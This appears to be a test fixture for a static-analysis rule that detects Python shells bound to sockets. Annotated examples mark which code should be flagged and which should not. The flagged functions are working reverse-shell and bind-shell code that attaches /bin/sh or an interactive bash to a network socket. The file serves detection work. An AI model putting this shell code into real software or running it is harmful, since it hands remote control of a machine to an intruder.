import os
import pty
import socket
import subprocess


def call_home(host, port):
    s = socket.socket()
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    # ruleid: python-shell-bound-to-socket
    pty.spawn("/bin/sh")


def door(port):
    listener = socket.create_server(("", port))
    client, _ = listener.accept()
    for fd in (0, 1, 2):
        os.dup2(client.fileno(), fd)
    # ruleid: python-shell-bound-to-socket
    os.execl("/bin/bash", "bash", "-i")


def short(conn):
    # ruleid: python-shell-bound-to-socket
    subprocess.Popen(["/bin/sh"], stdin=conn.fileno(), stdout=conn.fileno(), shell=False)


def quiet():
    null = os.open("/dev/null", os.O_RDWR)
    os.dup2(null, 0)
    # ok: python-shell-bound-to-socket
    os.execl("/usr/sbin/radiod", "radiod")


def filter_text(text):
    # ok: python-shell-bound-to-socket
    return subprocess.run(["sort"], input=text, stdout=subprocess.PIPE, check=True).stdout


def send(sock, data):
    # ok: python-shell-bound-to-socket
    sock.sendall(data)
    # ok: python-shell-bound-to-socket
    subprocess.run(["/sbin/logrotate"], stdin=subprocess.DEVNULL, check=False)
